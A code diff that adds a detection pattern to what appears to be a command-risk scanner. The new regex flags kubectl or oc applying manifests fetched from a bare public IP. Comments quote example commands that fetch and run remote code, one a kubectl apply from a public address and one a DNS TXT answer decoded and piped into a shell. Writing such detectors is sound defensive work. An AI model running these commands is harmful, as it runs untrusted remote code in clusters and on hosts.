@@ -4685,6 +4685,16 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         ),
     ),
     Capability.RUN_DOWNLOADED: (
+        # a cluster's manifest applied straight from a bare public address (`kubectl -n
+        # kube-system apply -f https://203.0.113.66/ds.yaml`): whatever that host serves runs in
+        # the cluster (a project's manifest by its release address is an installer's)
+        re.compile(
+            r"\b(?:kubectl|oc)\b[^\n|;&]{0,200}?\b(?:apply|create|replace)\b[^\n|;&]{0,200}?"
+            r"(?:-f|--filename)[= ]\s*['\"]?https?://(?!127\.|0\.|169\.254\.|"
+            + PRIVATE_IPV4
+            + r")\d{1,3}(?:\.\d{1,3}){3}(?=[:/'\"\s]|$)",
+            _I,
+        ),
         # a DNS TXT answer piped into a shell (`dig +short TXT x.zone | base64 -d | sh`)
         re.compile(
             r"\b(?:dig|nslookup|host|drill|kdig)\b(?>[^\n|]*?\bTXT\b)[^\n]*?\|\s*(?:[^\n|]*\|\s*)*?"
